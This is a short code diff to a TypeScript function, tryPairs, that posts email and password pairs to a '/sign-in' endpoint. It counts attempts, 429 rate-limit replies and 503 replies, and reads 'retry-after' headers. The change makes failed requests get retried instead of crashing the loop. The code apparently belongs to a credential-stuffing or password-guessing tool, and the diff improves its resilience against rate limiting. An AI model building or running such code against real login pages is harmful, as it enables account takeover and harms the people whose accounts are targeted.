@@ -69,7 +69,9 @@ export async function tryPairs(
   const attempt = async (one: Attempt) => {
     counts.sent += 1;
     const { email, password } = one.pair;
-    const answer = await one.browser.post('/sign-in', { ...form.fields, email, password });
+    const sent = one.browser.post('/sign-in', { ...form.fields, email, password });
+    const answer = await sent.catch(() => undefined);
+    if (!answer) return comeBack(one, 1);
     const retry = Number(answer.headers['retry-after']);
     if (answer.status === 429) counts.waits += 1;
     else if (answer.status === 503) counts.busy += 1;
